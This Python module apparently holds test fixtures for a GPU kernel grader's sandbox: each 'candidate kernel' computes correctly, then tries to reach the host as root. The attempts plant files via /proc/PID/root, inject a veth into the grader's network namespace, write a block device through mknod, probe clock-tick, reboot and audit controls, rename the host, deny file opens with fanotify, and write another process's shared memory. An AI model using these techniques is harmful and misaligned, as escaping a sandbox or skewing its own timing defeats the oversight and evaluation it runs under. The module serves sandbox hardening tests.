"""Known-bad kernels of the hostile review of the network namespace, the probe and the read-only host with CUDA
(issue 29's fourth round): root in the sandbox (the grader's uid, as with CUDA) reaching the host past those layers.
Competition signature FN(A, B, C, M, N, K); each computes honestly (the attack is elsewhere) and notes what it
managed under $BAD_KERNEL_OUT_DIR, so a test can tell "refused" from "done unnoticed"."""

import os
import socket
import struct

_state: dict = {}


def _out(name: str) -> str:
    return os.path.join(os.environ.get("BAD_KERNEL_OUT_DIR", "/tmp"), name)


def _note(name: str, text: str) -> None:
    try:
        with open(_out(name), "a") as f:
            f.write(text + "\n")
    except OSError:
        pass


def honest(A, B, C, M, N, K):
    a, b = A[: M * K].view(K, M).t(), B[: K * N].view(N, K).t()
    C[: M * N].view(N, M).t().copy_((a.float().unsqueeze(2) * b.float().unsqueeze(0)).sum(1).to(a.dtype))


def _grader() -> int | None:
    """The grader's pid: the keeper's parent (past bubblewrap), None where it is out of view (a PID namespace)."""
    pid = os.getppid()
    for _ in range(3):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if open(f"/proc/{pid}/comm").read().strip() != "bwrap":
                return pid or None
        except (OSError, ValueError, IndexError):
            return None
    return None


def writes_through_proc_root(A, B, C, M, N, K):
    """Computes honestly; at its first call writes $BAD_HOST_DIR/planted (a directory of the host's that the read-only
    host makes read-only: a stand-in for a module on the baseline's Python path) twice: by its own path, and through
    the grader's root as /proc shows it (``/proc/GRADER/root``: the grader's mount namespace, where nothing is
    read-only; only ptrace rights over the grader stand in the way, which root holds while it keeps CAP_SYS_PTRACE).
    Notes one line per way in ``proc_root``: "WAY written" or "WAY WHY"."""
    honest(A, B, C, M, N, K)
    if _state.get("proc_root"):
        return
    _state["proc_root"] = True
    host, grader = os.environ["BAD_HOST_DIR"], _grader()
    ways = [("direct", host)] + ([("proc_root", f"/proc/{grader}/root{host}")] if grader else [])
    for way, where in ways:
        try:
            with open(os.path.join(where, "planted.py"), "w") as f:
                f.write(f"# planted by the candidate ({way})\n")
            _note("proc_root", f"{way} written")
        except OSError as e:
            _note("proc_root", f"{way} {e.strerror}")
    if not grader:
        _note("proc_root", "proc_root no grader in view")


# rtnetlink, by hand (no pyroute2): a veth pair whose peer is created in another network namespace, named by a pid
RTM_NEWLINK, NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE, NLMSG_ERROR = 16, 1, 4, 0x200, 0x400, 2
IFLA_IFNAME, IFLA_LINKINFO, IFLA_NET_NS_PID, IFLA_INFO_KIND, IFLA_INFO_DATA, VETH_INFO_PEER = 3, 18, 19, 1, 2, 1


def _attr(kind: int, data: bytes) -> bytes:
    raw = struct.pack("=HH", 4 + len(data), kind) + data
    return raw + b"\0" * (-len(raw) % 4)


def veth_into(netns_pid: int, name: str, peer: str) -> int:
    """Ask the kernel for a veth pair: ``name`` here, ``peer`` in the network namespace of ``netns_pid``. Returns
    the netlink answer's errno (0: made)."""
    ifinfo = struct.pack("=BxHiII", 0, 0, 0, 0, 0)
    peer_msg = ifinfo + _attr(IFLA_IFNAME, peer.encode() + b"\0") + _attr(IFLA_NET_NS_PID, struct.pack("=I", netns_pid))
    info = _attr(IFLA_INFO_KIND, b"veth\0") + _attr(IFLA_INFO_DATA, _attr(VETH_INFO_PEER, peer_msg))
    body = ifinfo + _attr(IFLA_IFNAME, name.encode() + b"\0") + _attr(IFLA_LINKINFO, info)
    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
    msg = struct.pack("=IHHII", 16 + len(body), RTM_NEWLINK, flags, 1, 0) + body
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:  # NETLINK_ROUTE
        s.settimeout(10.0)
        s.sendto(msg, (0, 0))
        answer = s.recv(65536)
    kind = struct.unpack_from("=H", answer, 4)[0]
    return -struct.unpack_from("=i", answer, 16)[0] if kind == NLMSG_ERROR else 0


def joins_the_host_network(A, B, C, M, N, K):
    """Computes honestly; at its first call, from its own network namespace, makes a veth pair whose other end is
    created in the grader's network namespace (named by the grader's pid, ``IFLA_NET_NS_PID``): root in the initial
    user namespace holds CAP_NET_ADMIN over every network namespace, its own being only the one it starts in. The
    end in the host's namespace is $BAD_VETH (a link of the host's that the candidate made: it can as well take the
    host's interfaces down, pull one into its own namespace, or bring a link to the host up). Notes in ``netlink``
    "made NAME" or "refused WHY"."""
    honest(A, B, C, M, N, K)
    if _state.get("netlink"):
        return
    _state["netlink"] = True
    grader, peer = _grader(), os.environ["BAD_VETH"]
    if grader is None:
        _note("netlink", "refused no grader in view")
        return
    try:
        err = veth_into(grader, peer + "c", peer)
    except OSError as e:
        _note("netlink", f"refused {e.strerror or e}")
        return
    _note("netlink", f"made {peer}" if err == 0 else f"refused {os.strerror(err)}")


def writes_a_device(A, B, C, M, N, K):
    """Computes honestly; at its first call writes a marker onto the block device $BAD_BLOCK_DEV (a loop device the
    test attached: a stand-in for the host's disk, /dev/vda, under every file a read-only mount protects), three
    ways: the host's node (a read-only mount refuses writes to files, not to devices), and a node of its own made
    with mknod (same major and minor) in its scratch directory ($TMPDIR) and in /dev/shm, which it may write below,
    and $BAD_SHM_NODE where given (a node left in /dev/shm by another process, an earlier grade's candidate).
    Notes one line per way in ``device``: "WAY written" or "WAY WHY"."""
    import stat

    honest(A, B, C, M, N, K)
    if _state.get("device"):
        return
    _state["device"] = True
    host = os.environ["BAD_BLOCK_DEV"]
    with open(f"/sys/class/block/{os.path.basename(host)}/dev") as f:  # its numbers, whatever /dev shows
        rdev = os.makedev(*(int(x) for x in f.read().split(":")))
    ways = [("host_node", host)]
    if os.environ.get("BAD_SHM_NODE"):  # a node another process (an earlier grade's candidate) left in /dev/shm
        ways.append(("left_node", os.environ["BAD_SHM_NODE"]))
    for way, where in (("scratch_node", os.environ.get("TMPDIR", "/tmp")), ("shm_node", "/dev/shm")):
        node = os.path.join(where, f"blk-{os.getpid()}")
        try:
            os.mknod(node, stat.S_IFBLK | 0o600, rdev)
            ways.append((way, node))
        except OSError as e:
            _note("device", f"{way} mknod: {e.strerror}")
    for i, (way, node) in enumerate(ways):
        try:
            fd = os.open(node, os.O_WRONLY)
            try:
                os.pwrite(fd, f"planted by the candidate ({way})".encode().ljust(512, b"\0"), 512 * (1 + i))
                os.fsync(fd)
            finally:
                os.close(fd)
            _note("device", f"{way} written")
        except OSError as e:
            _note("device", f"{way} {e.strerror}")
        if way.endswith("_node") and way not in ("host_node", "left_node"):
            try:
                os.unlink(node)
            except OSError:
                pass


ADJ_TICK, TICK_AT, AUDIT_GET, AUDIT_SET, NETLINK_AUDIT = 0x4000, 88, 1000, 1001, 9  # struct timex: tick's offset


def _tick(libc, ctypes, tick: int | None = None) -> int:
    """The kernel clock's tick length (``adjtimex``), set to ``tick`` where given: -1 and errno where refused."""
    buf = ctypes.create_string_buffer(256)
    if tick is not None:
        struct.pack_into("=I", buf, 0, ADJ_TICK)
        struct.pack_into("=q", buf, TICK_AT, tick)
    if libc.adjtimex(buf) < 0:
        return -1
    return struct.unpack_from("=q", buf, TICK_AT)[0]


def _audit(kind: int, body: bytes) -> int:
    """One request to the kernel's audit (not network-namespaced: the host's); the answer's errno (0: done)."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_AUDIT) as s:
        s.settimeout(10.0)
        s.sendto(struct.pack("=IHHII", 16 + len(body), kind, NLM_F_REQUEST | NLM_F_ACK, 1, 0) + body, (0, 0))
        answer = s.recv(65536)
    return -struct.unpack_from("=i", answer, 16)[0] if struct.unpack_from("=H", answer, 4)[0] == NLMSG_ERROR else 0


def adjusts_the_clock(A, B, C, M, N, K):
    """Computes honestly; at its first call tries three host-wide kernel settings that root holds the capabilities for
    whatever its namespaces: the clock's tick length (``adjtimex(ADJ_TICK)``, CAP_SYS_TIME), which sets how fast
    CLOCK_MONOTONIC, the grader's ``perf_counter``, runs, by up to 10% either way: slowed only inside its own windows
    it would be timed up to 10% faster than it is; the kernel's audit settings (``AUDIT_SET``, CAP_AUDIT_CONTROL:
    audit off, or a failure mode that panics the host); and ``reboot`` (CAP_SYS_BOOT). The tick asked for is far out
    of range and ``reboot`` is asked for a command that does not exist (both checked after the capability: EINVAL
    means in reach, noted "tick set" and "reboot in reach"), audit is written with a mask of nothing, so nothing
    changes on the machine (nor races a time daemon's own writes): the kernel's answer alone says whether the change
    was in reach. Notes in ``host_admin`` "tick set" or "tick WHY", "audit set" or "audit WHY", "reboot in reach" or
    "reboot WHY"."""
    import ctypes

    honest(A, B, C, M, N, K)
    if _state.get("host_admin"):
        return
    _state["host_admin"] = True
    libc = ctypes.CDLL(None, use_errno=True)
    if _tick(libc, ctypes, 1) >= 0:  # a tick far out of range: refused after the capability check (EINVAL) or at it
        _note("host_admin", "tick set?")  # (never: out of range)
    else:
        err = ctypes.get_errno()
        _note("host_admin", "tick set" if err == 22 else f"tick {os.strerror(err)}")  # EINVAL: it was in reach
    if libc.syscall(169 if os.uname().machine == "x86_64" else 142, 0xFEE1DEAD, 672274793, 0x7E57, None) == 0:
        _note("host_admin", "reboot done?")  # (no such command: never)
    else:
        err = ctypes.get_errno()
        _note("host_admin", "reboot in reach" if err == 22 else f"reboot {os.strerror(err)}")  # EINVAL: past the check
    try:
        err = _audit(AUDIT_SET, b"\0" * 40)  # struct audit_status, mask 0: sets nothing, needs CAP_AUDIT_CONTROL
        _note("host_admin", "audit set" if err == 0 else f"audit {os.strerror(err)}")
    except OSError as e:
        _note("host_admin", f"audit {e.strerror or e}")


def renames_the_host(A, B, C, M, N, K):
    """Computes honestly; at its first call sets the hostname to $BAD_HOSTNAME (CAP_SYS_ADMIN: the host's name, where
    the sandbox has no UTS namespace of its own). Notes in ``hostname`` "set" or "WHY"."""
    honest(A, B, C, M, N, K)
    if _state.get("hostname"):
        return
    _state["hostname"] = True
    try:
        name = os.environ["BAD_HOSTNAME"].encode()
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        ok = libc.sethostname(name, len(name)) == 0
        _note("hostname", "set" if ok else os.strerror(ctypes.get_errno()))
    except OSError as e:
        _note("hostname", e.strerror or str(e))


FAN_CLASS_CONTENT, FAN_CLOEXEC, FAN_MARK_ADD, FAN_OPEN_PERM, FAN_ALLOW, FAN_DENY = 0x4, 0x1, 0x1, 0x10000, 1, 2
FANOTIFY = {"x86_64": (300, 301), "aarch64": (262, 263)}  # fanotify_init, fanotify_mark


def _answer(fan: int, first) -> None:
    """Answer every permission event on ``fan``: deny every process but this one (the first denial sets ``first``)."""
    import threading

    def loop():
        while True:
            try:
                raw = os.read(fan, 4096)
            except OSError:
                return
            for at in range(0, len(raw) - 23, 24):
                _, _, _, _, _, fd, pid = struct.unpack_from("=IBBHQii", raw, at)
                deny = pid != os.getpid()
                os.write(fan, struct.pack("=iI", fd, FAN_DENY if deny else FAN_ALLOW))
                os.close(fd)
                if deny and not first.is_set():
                    _note("fanotify", f"denied {pid}")
                    first.set()

    threading.Thread(target=loop, daemon=True).start()


def denies_the_hosts_opens(A, B, C, M, N, K):
    """Computes honestly; at its first call puts a permission mark (fanotify, CAP_SYS_ADMIN) on the host's file
    $BAD_DENY_FILE: every open of it, by any process on the machine whatever its namespaces, then waits for this
    kernel's answer, which is "denied" for every process but its own, and never comes while the sandbox is frozen
    (a mark on the file system holding the grader's files, or on the interpreter, would hang or fail the grader at
    will). Waits up to 30 s for the first denial. Notes in ``fanotify`` "denied PID" or "WHY"."""
    import ctypes
    import threading

    honest(A, B, C, M, N, K)
    if _state.get("fanotify"):
        return
    _state["fanotify"] = True
    libc = ctypes.CDLL(None, use_errno=True)
    init, mark = FANOTIFY[os.uname().machine]
    fan = libc.syscall(init, FAN_CLASS_CONTENT | FAN_CLOEXEC, os.O_RDONLY)
    if fan < 0:
        _note("fanotify", os.strerror(ctypes.get_errno()))
        return
    path = os.environ["BAD_DENY_FILE"].encode()
    if libc.syscall(mark, fan, FAN_MARK_ADD, ctypes.c_uint64(FAN_OPEN_PERM), -100, path) != 0:  # AT_FDCWD
        _note("fanotify", f"mark {os.strerror(ctypes.get_errno())}")
        return
    first = threading.Event()
    _answer(fan, first)
    if not first.wait(30.0):
        _note("fanotify", "marked, no open came")


def writes_sysv_memory(A, B, C, M, N, K):
    """Computes honestly; at its first call attaches the SysV shared-memory segment of key $BAD_SHM_KEY (a host
    process's: an X server's MIT-SHM image, a database's buffers; root ignores its mode) and writes a marker into it.
    Notes in ``sysv`` "written" or "WHY"."""
    import ctypes

    honest(A, B, C, M, N, K)
    if _state.get("sysv"):
        return
    _state["sysv"] = True
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shm = libc.shmget(int(os.environ["BAD_SHM_KEY"]), 0, 0)
    at = libc.shmat(shm, None, 0) if shm >= 0 else None
    if at is None or at == ctypes.c_void_p(-1).value:
        _note("sysv", os.strerror(ctypes.get_errno()))
        return
    ctypes.memmove(at, b"planted by the candidate", 24)
    libc.shmdt(ctypes.c_void_p(at))
    _note("sysv", "written")
